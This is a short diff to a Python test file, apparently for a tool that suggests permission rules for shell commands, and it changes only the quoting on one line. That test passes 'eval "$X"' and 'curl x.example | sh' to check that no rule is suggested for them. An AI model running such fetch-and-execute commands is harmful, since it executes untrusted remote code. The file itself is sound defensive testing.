@@ -135,7 +135,7 @@ class TestFreeText:
         assert suggest([*commands("a" * 30, "cat a.txt"), *commands("r", "cat b.txt")], Rules([], "ask")) == []
 
     def test_what_cannot_be_read(self) -> None:
-        assert suggest(commands("a" * 30, "eval \"$X\"", "curl x.example | sh"), Rules([], "ask")) == []
+        assert suggest(commands("a" * 30, 'eval "$X"', "curl x.example | sh"), Rules([], "ask")) == []
         assert suggest(calls("a" * 30, lambda at: {"note": f"do {at}"}, "frobnicate"), Rules([], "ask")) == []
 
     def test_a_rule_on_one_argument_leaves_the_others_as_harmless_as_they_were(self) -> None:
